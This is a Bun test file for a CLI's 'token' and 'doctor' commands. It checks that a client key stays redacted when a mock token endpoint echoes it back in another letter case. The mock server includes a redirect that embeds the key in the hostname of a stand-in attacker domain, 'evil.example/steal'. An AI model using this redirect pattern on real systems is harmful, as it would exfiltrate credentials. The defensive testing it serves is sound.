/**
 * The client key echoed back in another letter case is printed nowhere: a token endpoint that
 * redirects to a host named after the key (URL parsing lowercases it) or quotes it uppercased,
 * through `token`, `token --json` and `doctor`.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { TIMEOUT_MS, useFixture } from "./helpers.ts";

const fx = useFixture();
const KEY = "CkMixedCaseSecretKey9876";

/** The token endpoint: a redirect to `https://<key>.evil.example/`, or a 401 quoting the key. */
let hostile: ReturnType<typeof Bun.serve> | undefined;
beforeAll(() => {
  hostile = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(request) {
      const { clientKey } = (await request.json()) as { clientKey: string };
      if (new URL(request.url).pathname.startsWith("/quote/")) {
        return new Response(`{"error":"unknown client ${clientKey.toUpperCase()}"}`, {
          status: 401,
        });
      }
      return new Response(null, {
        status: 307,
        headers: { location: `https://${clientKey}.evil.example/steal` },
      });
    },
  });
});
afterAll(() => hostile?.stop(true));

const COMMANDS = [["token"], ["token", "--json"], ["doctor"], ["doctor", "--json"]];

describe("the client key in another letter case", () => {
  test(
    "a redirect of the token request to a host named after the key does not print it",
    async () => {
      const env = { AUTH_BASE: hostile?.url.origin, CLIENT_KEY: KEY, AUTH_TIMEOUT_MS: "3000" };
      for (const args of COMMANDS) {
        const run = await fx.run(args, { env });
        const out = `${run.stdout}${run.stderr}`;
        expect(run.code, `${args.join(" ")}: ${out}`).not.toBe(0);
        expect(out.toLowerCase(), args.join(" ")).not.toContain(KEY.toLowerCase());
        expect(out, args.join(" ")).toContain("[redacted].evil.example");
      }
    },
    TIMEOUT_MS,
  );

  test(
    "a token endpoint quoting the key uppercased does not get it printed",
    async () => {
      const env = {
        AUTH_BASE: `${hostile?.url.origin}/quote`,
        CLIENT_KEY: KEY,
        AUTH_TIMEOUT_MS: "3000",
      };
      for (const args of COMMANDS) {
        const run = await fx.run(args, { env });
        const out = `${run.stdout}${run.stderr}`;
        expect(run.code, `${args.join(" ")}: ${out}`).not.toBe(0);
        expect(out.toLowerCase(), args.join(" ")).not.toContain(KEY.toLowerCase());
        expect(out, args.join(" ")).toContain("unknown client [redacted]");
      }
    },
    TIMEOUT_MS,
  );
});
